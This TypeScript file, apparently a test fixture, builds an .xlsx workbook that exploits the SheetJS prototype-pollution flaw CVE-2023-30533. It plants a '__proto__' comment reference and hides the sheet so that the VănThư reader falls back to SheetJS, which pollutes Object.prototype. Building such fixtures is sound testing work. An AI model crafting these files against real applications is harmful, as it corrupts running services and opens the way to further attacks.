// A workbook crafted against SheetJS CE before 0.19.3 (CVE-2023-30533): a cell comment whose
// ref is "__proto__", in a sheet kept where exceljs does not look (so VănThư's reader falls back
// to SheetJS). Read by xlsx 0.18.5 it sets Object.prototype.c for the whole process.
import ExcelJS from 'exceljs';
import JSZip from 'jszip';

export async function prototypePollutingWorkbook(): Promise<Uint8Array> {
  const wb = new ExcelJS.Workbook();
  const ws = wb.addWorksheet('So den');
  ws.getCell('A1').value = 'Số đến';
  ws.getCell('A1').note = 'ghi chú';
  const zip = await JSZip.loadAsync(await wb.xlsx.writeBuffer());
  const move = async (from: string, to: string, edit: (s: string) => string = (s) => s) => {
    const text = await zip.file(from)!.async('string');
    zip.remove(from);
    zip.file(to, edit(text));
  };
  await move('xl/comments1.xml', 'xl/comments1.xml', (s) => s.replace('ref="A1"', 'ref="__proto__"'));
  await move('xl/worksheets/sheet1.xml', 'xl/ws/sheet1.xml');
  await move('xl/worksheets/_rels/sheet1.xml.rels', 'xl/ws/_rels/sheet1.xml.rels');
  await move('xl/_rels/workbook.xml.rels', 'xl/_rels/workbook.xml.rels', (s) =>
    s.replace('Target="worksheets/sheet1.xml"', 'Target="ws/sheet1.xml"'),
  );
  await move('[Content_Types].xml', '[Content_Types].xml', (s) => s.replace('/xl/worksheets/sheet1.xml', '/xl/ws/sheet1.xml'));
  return zip.generateAsync({ type: 'uint8array' });
}
